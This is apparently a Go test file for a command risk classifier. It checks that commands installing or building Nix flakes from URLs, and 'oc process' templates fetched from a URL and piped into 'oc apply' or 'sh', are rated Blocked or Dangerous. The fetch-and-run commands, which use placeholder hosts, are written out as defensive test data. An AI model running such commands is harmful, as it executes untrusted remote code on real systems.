package classify

import (
	"testing"
)

// TestAttackS32NixInstallFromAURL: nix profile install (add) and nix
// build of a flake from a URL, and nix-env -i -f URL, build what the URL
// holds here, running its builders, and put its programs on the PATH, as
// cargo install --git does (Defaults.DownloadExec, Blocked, as nix run
// of one is). They were Warning.
func TestAttackS32NixInstallFromAURL(t *testing.T) {
	attackAtLeast(t, Blocked, []string{
		`nix profile install github:x/y`,
		`nix profile install github:x/y#tool`,
		`nix profile add github:x/y`,
		`nix profile install 'git+https://x.test/r'`,
		`nix --extra-experimental-features 'nix-command flakes' profile install github:x/y`,
		`nix build github:x/y`,
		`nix-env -if https://x.test/x.tar.gz`,
		`nix-env -i -f https://x.test/x.tar.gz`,
		`nix-env -f https://x.test/x.tar.gz -iA hello`,
		`nix-env --install --file https://x.test/x.tar.gz`,
	})
	attackExactly(t, Warning, []string{
		`nix profile install nixpkgs#hello`,
		`nix profile install ./flake`,
		`nix profile upgrade '.*'`,
		`nix build`,
		`nix build .#x`,
		`nix-env -iA nixpkgs.hello`,
		`nix-env -q`,
	})
}

// TestAttackS32OcProcessFromAURL: oc process -f URL prints the objects of
// a template the URL serves, and oc apply -f - (create, kubectl apply)
// puts them on the cluster, as kubectl kustomize URL | oc apply -f -
// does (Dangerous). It was Warning.
func TestAttackS32OcProcessFromAURL(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`oc process -f https://x.test/t.yaml | oc apply -f -`,
		`oc process -f https://x.test/t.yaml -p X=1 | oc create -f -`,
		`oc process --filename=https://x.test/t.yaml | kubectl apply -f -`,
		`oc process -f https://x.test/t.yaml | sh`,
	})
	attackExactly(t, Warning, []string{
		`oc process -f t.yaml | oc apply -f -`,
		`oc process x | oc apply -f -`,
		`oc process -f https://x.test/t.yaml`,
	})
}
